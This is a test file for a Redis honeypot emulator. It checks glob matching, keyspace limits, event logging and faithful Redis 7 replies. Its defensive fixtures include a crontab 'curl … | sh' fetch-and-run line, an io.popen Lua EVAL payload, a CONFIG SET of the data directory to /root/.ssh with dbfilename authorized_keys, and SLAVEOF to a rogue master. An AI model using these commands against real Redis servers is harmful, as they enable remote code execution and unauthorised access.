import { describe, expect, test } from "bun:test";
import { evalReply } from "../../src/honeypots/redis/attacks";
import { COMMANDS, TOP_LEVEL } from "../../src/honeypots/redis/command-table";
import type { Client, Ctx, ServerFacts } from "../../src/honeypots/redis/context";
import { execute } from "../../src/honeypots/redis/dispatch";
import { globMatch } from "../../src/honeypots/redis/glob";
import { human, infoSections, infoText } from "../../src/honeypots/redis/info";
import { Keyspace } from "../../src/honeypots/redis/keyspace";
import { clipList, renderCommand } from "../../src/honeypots/redis/render";
import { encode } from "../../src/honeypots/redis/resp";
import { AddressState, AddressStates } from "../../src/honeypots/redis/state";

describe("glob patterns", () => {
  test("*, ?, classes, ranges, negation and escapes as Redis's stringmatch", () => {
    const cases: Array<[string, string, boolean]> = [
      ["*", "", true],
      ["*", "anything", true],
      ["h?llo", "hello", true],
      ["h?llo", "hllo", false],
      ["h*llo", "heeeello", true],
      ["h[ae]llo", "hallo", true],
      ["h[ae]llo", "hillo", false],
      ["h[^e]llo", "hallo", true],
      ["h[^e]llo", "hello", false],
      ["h[a-b]llo", "hbllo", true],
      ["h[b-a]llo", "hallo", true],
      ["h\\*llo", "h*llo", true],
      ["h\\*llo", "hello", false],
      ["*a*b*c*", "xxaxxbxxcxx", true],
      ["*a*b*c", "xxaxxbxxcxx", false],
      ["d*", "dir", true],
      ["[", "x", false],
    ];
    for (const [pattern, text, expected] of cases) expect([pattern, text, globMatch(pattern, text)]).toEqual([pattern, text, expected]);
    expect(globMatch("DB*", "dbfilename", true)).toBe(true);
    expect(globMatch("DB*", "dbfilename", false)).toBe(false);
  });

  test("a hostile pattern costs a bounded number of steps", () => {
    const text = "a".repeat(10_000);
    expect(globMatch(`${"*a".repeat(500)}b`, text, false, 100_000)).toBe(false);
  });
});

describe("the keyspace", () => {
  test("set, get, expiry, bounds by bytes and keys", () => {
    let now = 1_000_000;
    const ks = new Keyspace({ maxBytes: 20, maxKeys: 3 }, () => now);
    expect(ks.set(0, "a", Buffer.from("12345"), null)).toBe(true);
    expect(ks.set(0, "b", Buffer.from("x"), now + 1000)).toBe(true);
    expect(ks.set(0, "c", Buffer.from("x".repeat(20)), null)).toBe(false);
    expect(ks.set(1, "d", Buffer.from("y"), null)).toBe(true);
    expect(ks.set(1, "e", Buffer.from("y"), null)).toBe(false);
    expect(ks.keys(0)).toEqual(["a", "b"]);
    expect(ks.summary()).toEqual([
      { db: 0, keys: 2, expires: 1 },
      { db: 1, keys: 1, expires: 0 },
    ]);
    now += 1000;
    expect(ks.get(0, "b")).toBeUndefined();
    expect(ks.keyCount).toBe(2);
    expect(ks.bytes).toBe(8);
    expect(ks.set(0, "a", Buffer.from("x".repeat(18)), null)).toBe(false);
    expect(ks.set(0, "a", Buffer.from("x".repeat(17)), null)).toBe(true);
    expect(ks.values().map(String)).toEqual(["x".repeat(17), "y"]);
    ks.flush();
    expect([ks.keyCount, ks.bytes]).toEqual([0, 0]);
  });

  test("addresses are remembered up to a bound, idle ones forgotten first", () => {
    const states = new AddressStates(2, { maxBytes: 100, maxKeys: 10 });
    const a = states.acquire("198.51.100.1");
    states.release(a);
    expect(states.acquire("198.51.100.1")).toBe(a);
    states.release(a);
    const b = states.acquire("198.51.100.2");
    states.acquire("198.51.100.3");
    expect(states.size).toBe(2);
    expect(states.acquire("198.51.100.1")).not.toBe(a);
    // Every address has a connection open: none is forgotten until one closes.
    expect(states.size).toBe(3);
    states.release(b);
    expect(states.size).toBe(2);
  });
});

describe("rendering for events", () => {
  test("commands as one line, quoted where needed, bounded", () => {
    const args = ["SET", "x", "\n* * * * * curl http://198.51.100.1/x.sh | sh\n", "", 'a"b', "back\\slash"].map((a) => Buffer.from(a));
    expect(renderCommand(args)).toEqual({ value: 'SET x "\\x0a* * * * * curl http://198.51.100.1/x.sh | sh\\x0a" "" "a\\x22b" "back\\x5cslash"', truncated: false });
    const long = renderCommand([Buffer.from("SET"), Buffer.alloc(10_000, "a")]);
    expect([long.value.length, long.truncated]).toEqual([4096, true]);
    expect(clipList(Array.from({ length: 40 }, () => Buffer.from("ab\xff", "latin1")))).toMatchObject({ truncated: true, value: expect.arrayContaining(["ab\\xff"]) });
  });

  test("EVAL's answer to a script it never runs", () => {
    expect(evalReply("return 1")).toEqual({ type: "integer", value: 1 });
    expect(evalReply(" return -42; ")).toEqual({ type: "integer", value: -42 });
    expect(evalReply("return 'hi'")).toEqual({ type: "bulk", value: "hi" });
    expect(evalReply('return "x"')).toEqual({ type: "bulk", value: "x" });
    expect(evalReply("return true")).toEqual({ type: "integer", value: 1 });
    expect(evalReply('local f = io.popen("id") return f:read("*a")')).toEqual({ type: "null" });
  });
});

const SERVER: ServerFacts = {
  version: "7.2.4",
  os: "Linux 6.1.0-18-amd64 x86_64",
  port: 6379,
  password: "",
  processId: 812,
  runId: "a".repeat(40),
  buildId: "1234abcd1234abcd",
  replId: "b".repeat(40),
  startedAt: Date.now() - 86_400_000 * 3,
  totals: { connections: 10, commands: 50 },
  connectedClients: () => 1,
};

function context(server: Partial<ServerFacts> = {}): { ctx: Ctx; events: Array<[string, Record<string, unknown>]>; send: (...words: string[]) => string } {
  const events: Array<[string, Record<string, unknown>]> = [];
  const client: Client = {
    id: 7, addr: "198.51.100.9:40000", laddr: "10.0.0.2:6379", fd: 8, createdAt: Date.now(), lastInteraction: Date.now(), resp: 2, db: 0, name: "",
    user: "default", authenticated: !server.password, libName: "", libVer: "", multi: null, lastCommand: "NULL",
  };
  const ctx: Ctx = {
    client,
    server: { ...SERVER, ...server },
    state: new AddressState({ maxBytes: 4096, maxKeys: 16 }, Date.now),
    effects: {
      event: (name, fields) => events.push([name, fields]),
      capture: (bytes) => ({ shasum: new Bun.CryptoHasher("sha256").update(bytes).digest("hex"), outfile: "outbox/x", size: bytes.length }),
    },
    now: Date.now,
  };
  const send = (...words: string[]) => {
    const outcome = execute(ctx, words.map((w) => Buffer.from(w, "latin1")));
    return outcome.reply ? encode(outcome.reply, ctx.client.resp).toString("latin1") : "(closed)";
  };
  return { ctx, events, send };
}

describe("commands, as Redis 7 answers them", () => {
  test("the command table is 7.2's", () => {
    expect(TOP_LEVEL.length).toBe(241);
    expect(COMMANDS.get("config|get")).toEqual({ name: "config|get", arity: -3, write: false });
    expect(COMMANDS.get("set")).toEqual({ name: "set", arity: -3, write: true });
  });

  test("names, arity and subcommands are checked before anything else", () => {
    const { send } = context();
    expect(send("FOO", "bar", "baz qux")).toBe("-ERR unknown command 'FOO', with args beginning with: 'bar' 'baz qux' \r\n");
    expect(send("GET", "/", "HTTP/1.0")).toBe("-ERR wrong number of arguments for 'get' command\r\n");
    expect(send("CONFIG")).toBe("-ERR wrong number of arguments for 'config' command\r\n");
    expect(send("CONFIG", "GET")).toBe("-ERR wrong number of arguments for 'config|get' command\r\n");
    expect(send("CONFIG", "foo")).toBe("-ERR unknown subcommand 'foo'. Try CONFIG HELP.\r\n");
    expect(send("POST", "/", "HTTP/1.1")).toBe("(closed)");
  });

  test("strings and keys", () => {
    const { send } = context();
    expect(send("SET", "k", "v", "EX", "100")).toBe("+OK\r\n");
    expect(send("TTL", "k")).toBe(":100\r\n");
    expect(send("SET", "k", "w", "NX")).toBe("$-1\r\n");
    expect(send("SET", "k", "w", "XX", "GET")).toBe("$1\r\nv\r\n");
    expect(send("SET", "k", "v", "EX", "0")).toBe("-ERR invalid expire time in 'set' command\r\n");
    expect(send("SET", "k", "v", "EX")).toBe("-ERR syntax error\r\n");
    expect(send("INCR", "k")).toBe("-ERR value is not an integer or out of range\r\n");
    expect(send("INCRBY", "n", "5")).toBe(":5\r\n");
    expect(send("KEYS", "*")).toBe("*2\r\n$1\r\nk\r\n$1\r\nn\r\n");
    expect(send("TYPE", "k")).toBe("+string\r\n");
    expect(send("HGETALL", "nokey")).toBe("*0\r\n");
    expect(send("HGETALL", "k")).toBe("-WRONGTYPE Operation against a key holding the wrong kind of value\r\n");
    expect(send("HSET", "h", "a", "1", "b", "2")).toBe(":2\r\n");
    expect(send("SELECT", "16")).toBe("-ERR DB index is out of range\r\n");
    expect(send("SELECT", "1")).toBe("+OK\r\n");
    expect(send("DBSIZE")).toBe(":0\r\n");
    expect(send("FLUSHALL")).toBe("+OK\r\n");
    expect(send("SET", "big", "x".repeat(5000))).toBe("-OOM command not allowed when used memory > 'maxmemory'.\r\n");
  });

  test("AUTH and HELLO without a password configured, and with one", () => {
    const open = context();
    expect(open.send("AUTH", "x")).toBe("-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n");
    expect(open.send("AUTH", "default", "anything")).toBe("+OK\r\n");
    expect(open.send("AUTH", "bob", "x")).toBe("-WRONGPASS invalid username-password pair or user is disabled.\r\n");
    expect(open.events.map(([name, f]) => [name, f.username, f.password])).toEqual([
      ["login.failed", "default", "x"],
      ["login.success", "default", "anything"],
      ["login.failed", "bob", "x"],
    ]);
    expect(open.send("HELLO", "4")).toBe("-NOPROTO unsupported protocol version\r\n");
    expect(open.send("HELLO", "3", "SETNAME", "a b")).toBe("-ERR Client names cannot contain spaces, newlines or special characters.\r\n");
    expect(open.send("HELLO", "3")).toStartWith("%7\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$5\r\n7.2.4\r\n$5\r\nproto\r\n:3\r\n$2\r\nid\r\n:7\r\n");
    expect(open.send("GET", "missing")).toBe("_\r\n");

    const locked = context({ password: "s3cret" });
    expect(locked.send("PING")).toBe("-NOAUTH Authentication required.\r\n");
    expect(locked.send("NOSUCH")).toStartWith("-ERR unknown command 'NOSUCH'");
    expect(locked.send("HELLO", "3")).toBe(
      "-NOAUTH HELLO must be called with the client already authenticated, otherwise the HELLO <proto> AUTH <user> <pass> option can be used to authenticate the client and select the RESP protocol version at the same time\r\n",
    );
    expect(locked.send("AUTH", "wrong")).toBe("-WRONGPASS invalid username-password pair or user is disabled.\r\n");
    expect(locked.send("AUTH", "a", "b", "c")).toBe("-ERR syntax error\r\n");
    expect(locked.send("HELLO", "2", "AUTH", "default", "s3cret")).toStartWith("*14\r\n");
    expect(locked.send("PING")).toBe("+PONG\r\n");
  });

  test("MULTI/EXEC, and EXECABORT after a refused command", () => {
    const { send } = context();
    expect(send("MULTI")).toBe("+OK\r\n");
    expect(send("SET", "a", "1")).toBe("+QUEUED\r\n");
    expect(send("INCR", "a")).toBe("+QUEUED\r\n");
    expect(send("EXEC")).toBe("*2\r\n+OK\r\n:2\r\n");
    send("MULTI");
    expect(send("GET")).toBe("-ERR wrong number of arguments for 'get' command\r\n");
    expect(send("EXEC")).toBe("-EXECABORT Transaction discarded because of previous errors.\r\n");
    expect(send("EXEC")).toBe("-ERR EXEC without MULTI\r\n");
  });

  test("CONFIG GET and SET", () => {
    const { ctx, send } = context();
    expect(send("CONFIG", "GET", "dir")).toBe("*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n");
    expect(send("CONFIG", "GET", "*").startsWith(`*${196 * 2}\r\n`)).toBe(true);
    expect(send("CONFIG", "SET", "DIR", "/root/.ssh", "dbfilename", "authorized_keys")).toBe("+OK\r\n");
    expect(send("CONFIG", "GET", "d?r")).toBe("*2\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n");
    expect(ctx.state.persistenceRedirected).toBe(true);
    expect(send("CONFIG", "SET", "dbfilename", "../x")).toBe("-ERR CONFIG SET failed (possibly related to argument 'dbfilename') - dbfilename can't be a path, just a filename\r\n");
    expect(send("CONFIG", "SET", "daemonize", "yes")).toBe("-ERR CONFIG SET failed (possibly related to argument 'daemonize') - can't set immutable config\r\n");
    expect(send("CONFIG", "SET", "foo", "bar")).toBe("-ERR Unknown option or number of arguments for CONFIG SET - 'foo'\r\n");
    expect(send("CONFIG", "SET", "a", "b", "c")).toBe("-ERR syntax error\r\n");
    expect(send("CONFIG", "GET", "port")).toBe("*2\r\n$4\r\nport\r\n$4\r\n6379\r\n");
  });

  test("a replica refuses writes; INFO and ROLE say so", () => {
    const { send } = context();
    expect(send("SLAVEOF", "198.51.100.2", "x")).toBe("-ERR Invalid master port\r\n");
    expect(send("SLAVEOF", "198.51.100.2", "21000")).toBe("+OK\r\n");
    expect(send("REPLICAOF", "198.51.100.2", "21000")).toBe("+OK Already connected to specified master\r\n");
    expect(send("SET", "a", "b")).toBe("-READONLY You can't write against a read only replica.\r\n");
    expect(send("INFO", "replication")).toContain("role:slave\r\nmaster_host:198.51.100.2\r\nmaster_port:21000\r\nmaster_link_status:down\r\n");
    expect(send("ROLE")).toBe("*5\r\n$5\r\nslave\r\n$12\r\n198.51.100.2\r\n:21000\r\n$7\r\nconnect\r\n:-1\r\n");
    expect(send("CONFIG", "SET", "slave-read-only", "no")).toBe("+OK\r\n");
    expect(send("SET", "a", "b")).toBe("+OK\r\n");
    expect(send("SLAVEOF", "NO", "ONE")).toBe("+OK\r\n");
    expect(send("INFO", "replication")).toContain("# Replication\r\nrole:master\r\nconnected_slaves:0\r\n");
  });
});

describe("INFO", () => {
  test("sections by name, default, all; Redis's human sizes", () => {
    expect(infoSections([])).toEqual(["server", "clients", "memory", "persistence", "stats", "replication", "cpu", "modules", "errorstats", "cluster", "keyspace"]);
    expect(infoSections(["SERVER", "keyspace"])).toEqual(["server", "keyspace"]);
    expect(infoSections(["all"])).toContain("commandstats");
    expect(infoSections(["nosuch"])).toEqual([]);
    expect([human(1000), human(1_609_016), human(8_323_186_688)]).toEqual(["1000B", "1.53M", "7.75G"]);
  });

  test("the server section starts as nmap's probe expects and ends each line with \\r\\n", () => {
    const state = new AddressState({ maxBytes: 100, maxKeys: 10 }, Date.now);
    const text = infoText(["server", "keyspace"], SERVER, state, Date.now());
    expect(text).toStartWith("# Server\r\nredis_version:7.2.4\r\nredis_git_sha1:00000000\r\n");
    expect(text).toContain("\r\nos:Linux 6.1.0-18-amd64 x86_64\r\narch_bits:64\r\n");
    expect(text).toContain("\r\ntcp_port:6379\r\n");
    expect(text).toMatch(/\r\nuptime_in_days:3\r\n/);
    expect(text).toEndWith("io_threads_active:0\r\n\r\n# Keyspace\r\n");
  });
});
